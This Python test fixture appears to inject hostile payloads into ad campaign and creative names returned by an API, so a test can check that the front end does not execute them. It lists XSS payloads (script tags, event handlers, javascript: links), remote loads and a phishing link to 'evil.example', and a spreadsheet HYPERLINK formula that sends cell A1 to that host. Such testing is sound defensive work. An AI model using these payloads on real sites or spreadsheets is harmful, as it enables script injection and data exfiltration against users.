"""Hostile names: what anyone with access to a client's ad account can call a campaign.

:func:`hostile_names` rewrites an Atribu answer (the sandbox's, through the replay proxy) so
that every campaign, ad set and ad name and every creative text starts with a payload: a
script, an event handler, a ``javascript:`` link, a remote load, or a spreadsheet formula.
Each script payload, should it ever run, adds the class :data:`RAN` to the page's ``<html>``
element, which a test reads back from the DOM Chromium built.
"""

from __future__ import annotations

import json
import zlib
from typing import Any

__all__ = [
    "FORMULAS",
    "PAYLOADS",
    "RAN",
    "REMOTE_HOST",
    "SCRIPTS",
    "hostile_names",
    "hostile_text",
]

RAN = "atribu-pwned"
# No "=" or ",": it also fits a workspace label (ATRIBU_API_KEYS is "label=key,...").
_ACT = f"document.documentElement.classList.add('{RAN}')"
REMOTE_HOST = "evil.example"
SCRIPTS = [
    f"<script>{_ACT}</script>",
    f'<img src=x onerror="{_ACT}">',
    f'<svg onload="{_ACT}"></svg>',
    f"[click](javascript:{_ACT})",
    f'<a href="javascript:{_ACT}">open</a>',
    f'<iframe src="javascript:{_ACT}"></iframe>',
    f"<style>@import url(https://{REMOTE_HOST}/x.css);</style>",
    f"![pixel](https://{REMOTE_HOST}/pixel.png)",
    f"<a href='https://{REMOTE_HOST}/phish'>Login</a>",
]
FORMULAS = [
    f'=HYPERLINK("https://{REMOTE_HOST}/?leak="&A1,"Click")',
    "+1+2 Retargeting",
    "-2+3 Lookalike",
    "@SUM(1,2)",
    "\tTabbed",
]
PAYLOADS = SCRIPTS + FORMULAS
# Fields whose text is the advertiser's own (names, angles, offers) rather than a value of
# Atribu's vocabulary.
_TEXT_FIELDS = frozenset(
    {"campaign_name", "ad_set_name", "ad_name", "name", "primary_angle", "offers"}
)


def hostile_text(original: str) -> str:
    """The original name behind a payload, the same payload for the same name."""
    payload = PAYLOADS[zlib.crc32(original.encode()) % len(PAYLOADS)]
    return f"{payload} {original}"


def _rewrite(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        return {k: _rewrite(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [_rewrite(v, key) for v in value]
    if isinstance(value, str) and key in _TEXT_FIELDS:
        return hostile_text(value)
    return value


def hostile_names(body: bytes) -> bytes:
    """Rewrite an answer's names and creative texts to start with a payload."""
    return json.dumps(_rewrite(json.loads(body))).encode()
